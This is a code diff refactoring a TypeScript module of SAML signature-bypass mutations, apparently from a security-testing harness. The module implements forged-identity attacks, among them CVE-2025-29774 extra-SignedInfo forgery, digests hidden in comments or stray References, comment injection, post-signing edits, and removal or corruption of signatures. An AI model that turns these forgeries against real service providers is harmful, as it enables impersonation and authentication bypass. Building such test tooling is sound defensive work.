@@ -14,13 +14,26 @@
  *   tamper-signature-value, edit-after-signing, remove-signatures: the signature no longer covers what is sent
  */
 import type { Document, Element } from '@xmldom/xmldom';
-import { join, readOneOf } from '../../tenant/fields.ts';
+import { join } from '../../tenant/fields.ts';
 import { firstChildNamed, insertAfter } from '../../saml/dom.ts';
 import { DSIG_NS, descendants } from '../../saml/xmldsig.ts';
 import { evaluateValue } from '../values.ts';
-import { notApplied, type NotApplied, type SignedMutation } from './context.ts';
-import { claimIdentity, digestFor, extensionsOf, rewrite, resolveTarget, signedParts, unsignedCopy, type SignedPart } from './document.ts';
-import { onlyParams, readAttributeName, readIdentity, readIdentityOnly, readTarget, readTemplate, type TargetPath } from './params.ts';
+import { NotApplied, notApplied, type SignedMutation } from './context.ts';
+import {
+  claimIdentity,
+  createPrefixedAs,
+  digestFor,
+  extensionsOf,
+  removeSignatures,
+  replaceText,
+  rewrite,
+  setDigestValues,
+  signedParts,
+  targetElement,
+  unsignedCopy,
+  type SignedPart,
+} from './document.ts';
+import { onlyParams, readAttributeName, readChoice, readIdentity, readIdentityOnly, readNoParams, readTarget, readTemplate, type TargetPath } from './params.ts';
 
 /** The signed part these attacks forge: the signed Assertion when there is one (the published templates), else the Response. */
 function attackedPart(document: Document): SignedPart | NotApplied {
@@ -29,10 +42,21 @@ function attackedPart(document: Document): SignedPart | NotApplied {
   return part ?? notApplied('nothing in the document is signed');
 }
 
-function setDigest(reference: Element, digest: string): void {
-  const value = descendants(reference, 'DigestValue')[0]!;
-  while (value.firstChild) value.removeChild(value.firstChild);
-  value.appendChild(value.ownerDocument!.createTextNode(digest));
+/**
+ * Makes the attacked element claim `identity` in place; returns the digest its signature's Reference
+ * would now need (what these attacks smuggle in beside the genuine one), or why it cannot be computed.
+ */
+function forgeInPlace({ element, signature }: SignedPart, identity: string): string | NotApplied {
+  claimIdentity(element, identity);
+  return digestFor(element, signature) ?? notApplied('the signature uses a transform or digest the mutation cannot reproduce');
+}
+
+/** The attacked part forged in place, with the digest it would now need. */
+function forgeAttackedPart(document: Document, identity: string): { part: SignedPart; digest: string } | NotApplied {
+  const part = attackedPart(document);
+  if (part instanceof NotApplied) return part;
+  const digest = forgeInPlace(part, identity);
+  return digest instanceof NotApplied ? digest : { part, digest };
 }
 
 export const EXTRA_SIGNED_INFO_VARIANTS = ['sibling', 'wrapped'] as const;
@@ -43,14 +67,13 @@ export const extraSignedInfoMutation: SignedMutation<{ variant: (typeof EXTRA_SI
   summary: 'CVE-2025-29774: a second SignedInfo naming the forged element (claiming identity) beside the genuine one, or wrapped before it.',
   readParams(raw, path, issues) {
     onlyParams(raw, path, issues, ['variant', 'identity']);
-    const variant = readOneOf(raw, 'variant', path, issues, EXTRA_SIGNED_INFO_VARIANTS);
-    if (raw['variant'] === undefined) issues.add(join(path, 'variant'), `is required (${EXTRA_SIGNED_INFO_VARIANTS.join(', ')})`);
+    const variant = readChoice(raw, 'variant', path, issues, EXTRA_SIGNED_INFO_VARIANTS);
     return { variant: variant ?? 'sibling', identity: readIdentity(raw, path, issues) };
   },
   apply(sent, { variant, identity }) {
     return rewrite(sent, (document) => {
       const part = attackedPart(document);
-      if (!('signature' in part)) return part;
+      if (part instanceof NotApplied) return part;
       const { element, signature, id } = part;
       const genuineSignedInfo = firstChildNamed(signature, 'SignedInfo')!;
       const original = unsignedCopy(element);
@@ -59,14 +82,13 @@ export const extraSignedInfoMutation: SignedMutation<{ variant: (typeof EXTRA_SI
       document.documentElement!.appendChild(holder);
       const forgedId = `${id}_forged`;
       element.setAttribute('ID', forgedId);
-      claimIdentity(element, identity);
+      const digest = forgeInPlace(part, identity);
+      if (digest instanceof NotApplied) return digest;
       const forgedReference = descendants(genuineSignedInfo, 'Reference')[0]!.cloneNode(true) as Element;
       forgedReference.setAttribute('URI', `#${forgedId}`);
+      setDigestValues(forgedReference, digest);
       const forgedSignedInfo = document.createElementNS(DSIG_NS, genuineSignedInfo.tagName);
       forgedSignedInfo.appendChild(forgedReference);
-      const digest = digestFor(element, signature);
-      if (!digest) return notApplied('the signature uses a transform or digest the mutation cannot reproduce');
-      setDigest(forgedReference, digest);
       if (variant === 'sibling') {
         insertAfter(forgedSignedInfo, genuineSignedInfo);
       } else {
@@ -86,13 +108,10 @@ export const digestCommentMutation: SignedMutation<{ identity: string }> = {
   readParams: readIdentityOnly,
   apply(sent, { identity }) {
     return rewrite(sent, (document) => {
-      const part = attackedPart(document);
-      if (!('signature' in part)) return part;
-      claimIdentity(part.element, identity);
-      const digest = digestFor(part.element, part.signature);
-      if (!digest) return notApplied('the signature uses a transform or digest the mutation cannot reproduce');
-      const value = descendants(part.signature, 'DigestValue')[0]!;
-      value.insertBefore(document.createComment(digest), value.firstChild);
+      const forged = forgeAttackedPart(document, identity);
+      if (forged instanceof NotApplied) return forged;
+      const value = descendants(forged.part.signature, 'DigestValue')[0]!;
+      value.insertBefore(document.createComment(forged.digest), value.firstChild);
       return undefined;
     });
   },
@@ -105,18 +124,15 @@ export const strayReferenceMutation: SignedMutation<{ identity: string }> = {
   readParams: readIdentityOnly,
   apply(sent, { identity }) {
     return rewrite(sent, (document) => {
-      const part = attackedPart(document);
-      if (!('signature' in part)) return part;
-      const { element, signature } = part;
-      claimIdentity(element, identity);
-      const digest = digestFor(element, signature);
-      if (!digest) return notApplied('the signature uses a transform or digest the mutation cannot reproduce');
+      const forged = forgeAttackedPart(document, identity);
+      if (forged instanceof NotApplied) return forged;
+      const { part: { element, signature }, digest } = forged;
       const stray = descendants(signature, 'Reference')[0]!.cloneNode(true) as Element;
-      setDigest(stray, digest);
+      setDigestValues(stray, digest);
       const root = document.documentElement!;
       if (element === root) {
         // Inside the Response's own Signature (which its digest leaves out), ahead of SignedInfo.
-        const object = document.createElementNS(DSIG_NS, signature.prefix ? `${signature.prefix}:Object` : 'Object');
+        const object = createPrefixedAs(signature, DSIG_NS, 'Object');
         object.appendChild(stray);
         signature.insertBefore(object, signature.firstChild);
       } else {
@@ -153,8 +169,8 @@ export const commentInjectionMutation: SignedMutation<CommentParams> = {
   },
   apply(sent, { target, at }) {
     return rewrite(sent, (document) => {
-      const element = resolveTarget(document, target);
-      if (!element) return notApplied(`no element at ${target.text}`);
+      const element = targetElement(document, target);
+      if (element instanceof NotApplied) return element;
       const text = element.textContent ?? '';
       const position = typeof at === 'number' ? at : text.indexOf(at);
       if (position <= 0 || position >= text.length) return notApplied(`the text of ${target.text} cannot be split there`);
@@ -178,19 +194,12 @@ export const tamperSignatureValueMutation: SignedMutation<Record<string, never>>
   name: 'tamper-signature-value',
   point: 'saml.signed',
   summary: 'Every SignatureValue byte XOR 0x5A: the signatures are there but do not verify.',
-  readParams(raw, path, issues) {
-    onlyParams(raw, path, issues, []);
-    return {};
-  },
+  readParams: readNoParams,
   apply(sent) {
     return rewrite(sent, (document) => {
       const values = descendants(document, 'SignatureValue');
       if (values.length === 0) return notApplied('nothing in the document is signed');
-      for (const value of values) {
-        const corrupted = corruptSignatureValue(value.textContent ?? '');
-        while (value.firstChild) value.removeChild(value.firstChild);
-        value.appendChild(document.createTextNode(corrupted));
-      }
+      for (const value of values) replaceText(value, corruptSignatureValue(value.textContent ?? ''));
       return undefined;
     });
   },
@@ -216,16 +225,14 @@ export const editAfterSigningMutation: SignedMutation<EditParams> = {
   },
   apply(sent, { target, attribute, value }, ctx) {
     return rewrite(sent, (document) => {
-      const element = resolveTarget(document, target);
-      if (!element) return notApplied(`no element at ${target.text}`);
+      const element = targetElement(document, target);
+      if (element instanceof NotApplied) return element;
       if (attribute) {
         const original = element.hasAttribute(attribute) ? element.getAttribute(attribute)! : undefined;
         element.setAttribute(attribute, String(evaluateValue(value, original, ctx.now, 'iso')));
         return undefined;
       }
-      const text = String(evaluateValue(value, element.textContent ?? '', ctx.now, 'iso'));
-      while (element.firstChild) element.removeChild(element.firstChild);
-      element.appendChild(document.createTextNode(text));
+      replaceText(element, String(evaluateValue(value, element.textContent ?? '', ctx.now, 'iso')));
       return undefined;
     });
   },
@@ -235,15 +242,10 @@ export const removeSignaturesMutation: SignedMutation<Record<string, never>> = {
   name: 'remove-signatures',
   point: 'saml.signed',
   summary: 'Strips every ds:Signature (Response and Assertion): the SP gets an unsigned document.',
-  readParams(raw, path, issues) {
-    onlyParams(raw, path, issues, []);
-    return {};
-  },
+  readParams: readNoParams,
   apply(sent) {
     return rewrite(sent, (document) => {
-      const signatures = descendants(document, 'Signature');
-      if (signatures.length === 0) return notApplied('nothing in the document is signed');
-      for (const signature of signatures) signature.parentNode?.removeChild(signature);
+      if (removeSignatures(document) === 0) return notApplied('nothing in the document is signed');
       return undefined;
     });
   },
